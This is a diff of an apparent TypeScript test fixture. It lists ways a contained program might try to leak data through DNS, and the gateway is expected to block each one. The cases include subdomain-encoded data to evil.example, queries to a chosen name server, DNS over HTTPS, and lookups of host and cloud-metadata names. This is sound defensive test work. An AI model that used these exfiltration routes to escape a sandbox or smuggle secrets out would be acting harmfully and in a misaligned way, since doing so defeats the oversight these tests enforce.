@@ -1,12 +1,10 @@
 import type { BypassCase } from '../bypass-case.ts'
-import { onSocket } from '../represented.ts'
 
 const undeclared = { blocked: 'which is not declared' }
-const record = { MX: 15, TXT: 16, SRV: 33, HTTPS: 65 } as const
 
-/** Attempts to reach a name server. */
-const ways: readonly BypassCase[] = [
-  { tried: 'an undeclared name', attack: "look_up('evil.example')", isAlone: true, ends: undeclared },
+/** Lookups, which could carry data out of the container: the ways to ask. The gateway's own test tries the questions. */
+export const names: readonly BypassCase[] = [
+  { tried: 'an undeclared name', attack: "look_up('evil.example')", ends: undeclared },
   {
     tried: 'an undeclared name, over TCP',
     attack: `
@@ -27,6 +25,12 @@ const ways: readonly BypassCase[] = [
     ends: undeclared,
   },
   {
+    tried: 'a subdomain of a declared name, carrying data',
+    attack: "look_up('s3cr3t.api.example.com')",
+    ends: undeclared,
+    modes: ['socket'],
+  },
+  {
     tried: 'a name server of its own choice',
     attack: "dns('s3cr3t.evil.example', 1, '9.9.9.9')",
     ends: { reports: 'unreachable' },
@@ -39,33 +43,3 @@ const ways: readonly BypassCase[] = [
     endsInBridge: undeclared,
   },
 ]
-
-/** Questions that the gateway answers. */
-const questions: readonly BypassCase[] = [
-  { tried: 'an undeclared name, in a hand-made query', attack: "dns('evil.example')", ends: undeclared },
-  { tried: 'the IPv6 address of an undeclared name', attack: "dns('evil.example', 28)", ends: undeclared },
-  { tried: 'the parent of a declared name', attack: "look_up('example.com')", ends: undeclared },
-  {
-    tried: 'a subdomain of a declared name, carrying data',
-    attack: "look_up('s3cr3t.api.example.com')",
-    ends: undeclared,
-  },
-  {
-    tried: 'data in a name of the maximum length',
-    attack: "dns('.'.join(['a' * 60] * 3 + ['evil', 'example']))",
-    ends: undeclared,
-  },
-  ...Object.entries(record).map(
-    ([name, kind]): BypassCase => ({
-      tried: `data in a ${name} question for an undeclared name`,
-      attack: `dns('s3cr3t.evil.example', ${kind})`,
-      ends: undeclared,
-    }),
-  ),
-  { tried: 'DNS over HTTPS', attack: "get('dns.google', '/resolve?name=s3cr3t.evil.example')", ends: undeclared },
-  { tried: 'the host, by the engine’s name for it', attack: "look_up('host.docker.internal')", ends: undeclared },
-  { tried: 'cloud metadata by its name', attack: "look_up('metadata.google.internal')", ends: undeclared },
-]
-
-/** Lookups, which could carry data out of the container. */
-export const names: readonly BypassCase[] = [...ways, ...questions.map(onSocket)]
